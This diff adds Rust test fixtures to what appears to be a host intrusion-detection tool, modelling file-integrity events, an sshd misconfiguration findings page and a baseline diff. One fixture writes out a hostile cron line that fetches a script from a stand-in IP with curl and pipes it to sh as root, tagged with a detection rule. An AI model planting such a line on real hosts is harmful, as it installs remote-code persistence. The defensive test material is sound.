@@ -4,7 +4,7 @@ use chrono::TimeDelta;
 
 use crate::fixtures::now;
 use bartizan_model::*;
-use bartizan_protocol::Reply;
+use bartizan_protocol::{FileDiff, FindingsPage, Reply};
 
 fn before(seconds: i64) -> Timestamp {
     now() - TimeDelta::seconds(seconds)
@@ -136,7 +136,108 @@ pub(crate) fn exceptions() -> Vec<Exception> {
     ]
 }
 
+/// Changes of files: a cron job of the attack, one that a package explains, and one that nobody saw.
+pub(crate) fn files() -> Vec<Event> {
+    let one = |id: u64, path: &str, sentence: &str, process: Option<Process>| {
+        let integrity = FileIntegrity {
+            sentence: sentence.to_owned(),
+            changes: 1,
+            version: 4,
+            findings: Vec::new(),
+            packages: Vec::new(),
+            late: false,
+        };
+        let mut file = FileChange::new(HostText::from(path), FileChangeKind::Modified);
+        file.integrity = Some(Box::new(integrity));
+        Event {
+            id: EventId(id),
+            at: before(i64::try_from(id).unwrap() * 700),
+            kind: EventKind::FileChange { file },
+            process: process.map(std::sync::Arc::new),
+            source: Source::Fanotify,
+            complete: true,
+        }
+    };
+    let shell = Process {
+        exe: HostText::from("/usr/bin/dash"),
+        argv: vec![HostText::from("sh"), HostText::from("-c"), HostText::from("echo x > /etc/cron.d/sync")],
+        user: Some(HostText::from("www-data")),
+        uid: 33,
+        ..Process::unknown(crate::fixtures::key(2214), before(40))
+    };
+    let dpkg = Process { exe: HostText::from("/usr/bin/dpkg"), ..Process::unknown(crate::fixtures::key(3001), before(900)) };
+    let mut cron = one(1, "/etc/cron.d/sync", "new file, 48 bytes, owner root, mode 644", Some(shell));
+    let mut unseen = one(3, "/etc/ssh/sshd_config", "content changed: 3,224 to 3,261 bytes", None);
+    let mut package = one(2, "/usr/bin/curl", "content changed", Some(dpkg));
+    let change = |row: &mut Event, edit: &dyn Fn(&mut FileIntegrity)| {
+        if let EventKind::FileChange { file } = &mut row.kind {
+            edit(file.integrity.as_mut().unwrap());
+        }
+    };
+    let danger = FileFinding {
+        rule: "cron_download".to_owned(),
+        technique: "T1053.003".to_owned(),
+        sentence: "it fetches a program and runs it every minute".to_owned(),
+    };
+    change(&mut cron, &|seen| seen.findings = vec![danger.clone()]);
+    change(&mut unseen, &|seen| seen.late = true);
+    change(&mut package, &|seen| seen.packages = vec![HostText::from("curl")]);
+    vec![unseen, package, cron]
+}
+
+/// How the cron job differs from the baseline.
+pub(crate) fn diff() -> FileDiff {
+    FileDiff {
+        path: HostText::from("/etc/cron.d/sync"),
+        change: Some("/etc/cron.d/sync: new file".to_owned()),
+        diff: Some("@@ -0,0 +1,1 @@\n+* * * * * root curl 203.0.113.66/x | sh\n".to_owned()),
+    }
+}
+
+pub(crate) fn findings() -> FindingsPage {
+    let one = |id: &str, severity, rule: &str, title: &str, location: &str, state| Finding {
+        id: id.to_owned(),
+        severity,
+        title: title.to_owned(),
+        source: "host".to_owned(),
+        rule: rule.to_owned(),
+        aliases: vec!["CWE-521".to_owned()],
+        location: HostText::from(location),
+        line: Some(34),
+        evidence: HostText::from("PermitRootLogin yes"),
+        why: "whoever guesses one password has the whole host".to_owned(),
+        fix: "set PermitRootLogin prohibit-password, then systemctl reload ssh".to_owned(),
+        first_seen: before(864_000),
+        last_seen: before(3_600),
+        state,
+    };
+    let accepted = FindingState::Accepted { until: now() + TimeDelta::days(9), reason: "behind a VPN".to_owned(), by: "root".to_owned() };
+    FindingsPage {
+        findings: vec![
+            one(
+                "F0a1b2c3d4e5f",
+                Severity::High,
+                "sshd-root-login",
+                "root may log in by password",
+                "/etc/ssh/sshd_config",
+                FindingState::Open,
+            ),
+            one("F1a1b2c3d4e5f", Severity::Low, "tmp-noexec", "programs may run from /tmp", "/tmp", FindingState::Open),
+            one("F2a1b2c3d4e5f", Severity::Medium, "sshd-forwarding", "X11 is forwarded", "/etc/ssh/sshd_config", accepted),
+        ],
+        more: 12,
+        verdict: "NOT PASSED: open findings: 1 high, 1 low".to_owned(),
+        scanned: Some(before(3_600)),
+    }
+}
+
 /// The answers to all that views ask for.
 pub(crate) fn replies() -> Vec<Reply> {
-    vec![Reply::Logs(logs()), Reply::Attackers(attackers()), Reply::BaselineReview(Box::new(review())), Reply::Exceptions(exceptions())]
+    vec![
+        Reply::Logs(logs()),
+        Reply::Attackers(attackers()),
+        Reply::BaselineReview(Box::new(review())),
+        Reply::Exceptions(exceptions()),
+        Reply::Findings(Box::new(findings())),
+    ]
 }
